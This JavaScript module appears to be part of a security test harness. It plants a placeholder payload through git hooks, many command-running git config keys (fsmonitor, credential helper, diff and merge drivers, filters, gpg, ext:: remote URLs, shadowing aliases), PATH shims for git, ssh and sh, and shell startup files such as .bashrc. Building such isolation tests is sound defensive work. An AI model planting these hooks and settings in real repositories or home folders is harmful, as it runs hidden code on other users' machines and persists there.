// Tricks that plant something which somebody else is to run: git's settings, hooks, programs on the PATH.
import { accessSync, appendFileSync, constants, existsSync, mkdirSync } from 'node:fs'
import { delimiter, join } from 'node:path'
import { homes } from './look.mjs'

const HOOKS =
  `applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg
post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update
reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman p4-changelist
p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change`.split(/\s+/)

function hooks(folder, { write, payload }) {
  mkdirSync(folder, { recursive: true })
  for (const name of HOOKS) write(join(folder, name), `#!/bin/sh\n${payload()} </dev/null\n`, 0o755)
}

/** git settings that start a program; `[section]` lines of a configuration file. */
function programs({ plan, payload, write }) {
  const run = payload()
  const folder = join(plan.evidence, `hooks-${Math.random()}`)
  hooks(folder, { write, payload })
  return `[core]
\tfsmonitor = ${run}
\thooksPath = ${folder}
\tsshCommand = ${run}
\teditor = ${run}
\tpager = ${run}
\talternateRefsCommand = ${run}
[credential]
\thelper = !${run}
[diff]
\texternal = ${run}
[filter "evil"]
\tclean = ${run}; cat
\tsmudge = ${run}; cat
\trequired = true
[gpg]
\tprogram = ${run}
[commit]
\tgpgSign = true
[alias]
\tstatus = !${run}
\tadd = !${run}
[uploadpack]
\tpackObjectsHook = ${run}
[protocol]
\tallow = always
`
}

/** A setting of the clone, written as any program can write it. */
const local = (lines) => (tools) => {
  const { top, payload, plan } = tools
  const text = typeof lines === 'function' ? lines(payload(), tools, plan) : lines
  appendFileSync(join(top, '.git', 'config'), text)
}

/** The first folder of the PATH in which we may write; below HOME, so that no machine is harmed. */
function writableBin() {
  const ours = homes()
  const found = (process.env.PATH ?? '').split(delimiter).find((folder) => {
    try {
      accessSync(folder, constants.W_OK)
      return ours.some((home) => folder.startsWith(`${home}/`))
    } catch {
      return false
    }
  })
  if (found === undefined) throw Object.assign(new Error('no folder of the PATH is ours'), { code: 'EACCES' })
  return found
}

function standsBefore(program, { write, payload }) {
  const folder = writableBin()
  const real = (process.env.PATH ?? '')
    .split(delimiter)
    .filter((one) => one !== folder)
    .map((one) => join(one, program))
    .find((file) => existsSync(file))
  write(join(folder, program), `#!/bin/bash\n${payload()} </dev/null\nexec "${real}" "$@"\n`, 0o755)
}

const ownGit = (top) => join(top, '.git', 'ralph', 'git')

export const plants = {
  'plant.fsmonitor': local((run) => `[core]\n\tfsmonitor = ${run}\n`),
  'plant.hooksPath': local((_run, tools) => {
    const folder = join(tools.plan.evidence, 'hooks-path')
    hooks(folder, tools)
    return `[core]\n\thooksPath = ${folder}\n`
  }),
  'plant.programs': local(
    (run) =>
      `[core]\n\tsshCommand = ${run}\n\teditor = ${run}\n\tpager = ${run}\n\talternateRefsCommand = ${run}\n[sequence]\n\teditor = ${run}\n`,
  ),
  'plant.credential': local((run) => `[credential]\n\thelper =\n\thelper = !${run}\n`),
  'plant.diff': local(
    (run) =>
      `[diff]\n\texternal = ${run}\n[diff "evil"]\n\ttextconv = ${run}\n\tcommand = ${run}\n[interactive]\n\tdiffFilter = ${run}\n`,
  ),
  'plant.filter'(tools) {
    local((run) => `[filter "evil"]\n\tclean = ${run}; cat\n\tsmudge = ${run}; cat\n\trequired = true\n`)(
      tools,
    )
    tools.write(join(tools.top, '.git', 'info', 'attributes'), '* filter=evil diff=evil merge=evil\n')
  },
  'plant.process': local((run) => `[filter "evil"]\n\tprocess = ${run}\n`),
  'plant.merge': local((run) => `[merge "evil"]\n\tdriver = ${run}\n[mergetool "evil"]\n\tcmd = ${run}\n`),
  'plant.gpg': local(
    (run) => `[gpg]\n\tprogram = ${run}\n[commit]\n\tgpgSign = true\n[tag]\n\tgpgSign = true\n`,
  ),
  'plant.insteadOf': local(
    (run) =>
      `[protocol]\n\tallow = always\n[protocol "ext"]\n\tallow = always\n[url "ext::${run} "]\n\tinsteadOf = http\n\tpushInsteadOf = http\n`,
  ),
  'plant.remote': local(
    (run) =>
      `[remote "origin"]\n\turl = ext::${run}\n\tpushurl = ext::${run}\n\tuploadpack = ${run}\n\treceivepack = ${run}\n\tvcs = ext\n`,
  ),
  'plant.include'(tools) {
    const file = join(tools.plan.evidence, 'included')
    tools.write(file, programs(tools))
    local(`[include]\n\tpath = ${file}\n[includeIf "gitdir:/**"]\n\tpath = ${file}\n`)(tools)
  },
  'plant.alias': local(
    (run) => `[alias]\n\tstatus = !${run}\n\tadd = !${run}\n\tpush = !${run}\n\tral = !${run}\n`,
  ),
  'plant.hooks': (tools) => hooks(join(tools.top, '.git', 'hooks'), tools),
  'plant.commondir'(tools) {
    const { top, plan, write } = tools
    const other = join(plan.evidence, 'other-git')
    for (const folder of ['objects', 'refs/heads', 'hooks'])
      mkdirSync(join(other, folder), { recursive: true })
    write(join(other, 'objects', 'info', 'alternates'), `${join(top, '.git', 'objects')}\n`)
    write(join(other, 'config'), `[core]\n\trepositoryformatversion = 0\n\tbare = false\n${programs(tools)}`)
    hooks(join(other, 'hooks'), tools)
    write(join(top, '.git', 'commondir'), `${other}\n`)
  },
  'plant.worktree-config'(tools) {
    tools.write(join(tools.top, '.git', 'config.worktree'), programs(tools))
    local('[extensions]\n\tworktreeConfig = true\n')(tools)
  },
  'plant.own'(tools) {
    const { top, write } = tools
    const own = ownGit(top)
    appendFileSync(join(own, 'config'), programs(tools))
    write(join(own, 'config.worktree'), programs(tools))
    appendFileSync(join(own, 'config'), '[extensions]\n\tworktreeConfig = true\n')
    write(join(own, 'info', 'attributes'), '* filter=evil\n')
  },
  'plant.own-hooks': (tools) => hooks(join(ownGit(tools.top), 'hooks'), tools),
  'plant.own-commondir'(tools) {
    const { top, plan, write } = tools
    const other = join(plan.evidence, 'own-other')
    for (const folder of ['objects', 'refs/heads']) mkdirSync(join(other, folder), { recursive: true })
    write(join(other, 'config'), `[core]\n\trepositoryformatversion = 0\n\tbare = false\n${programs(tools)}`)
    hooks(join(other, 'hooks'), tools)
    write(join(ownGit(top), 'commondir'), `${other}\n`)
  },
  'plant.global'(tools) {
    for (const home of homes()) {
      tools.write(join(home, '.gitconfig'), programs(tools))
      tools.write(join(home, '.config', 'git', 'config'), programs(tools))
      tools.write(join(home, '.config', 'git', 'attributes'), '* filter=evil\n')
    }
  },
  'plant.later'({ payload }) {
    for (const home of homes()) appendFileSync(join(home, '.gitconfig'), `[alias]\n\tral = !${payload()}\n`)
  },
  'plant.path-git': (tools) => standsBefore('git', tools),
  'plant.path-others'(tools) {
    for (const program of ['ps', 'git-remote-http', 'ssh', 'gpg', 'sh']) standsBefore(program, tools)
  },
  'plant.startup'({ write, payload }) {
    const names = '.bashrc .bash_profile .profile .bash_login .zshenv .envrc .bash_logout'.split(' ')
    for (const home of homes()) for (const name of names) write(join(home, name), `${payload()} </dev/null\n`)
  },
}

export { hooks, ownGit, programs, writableBin }
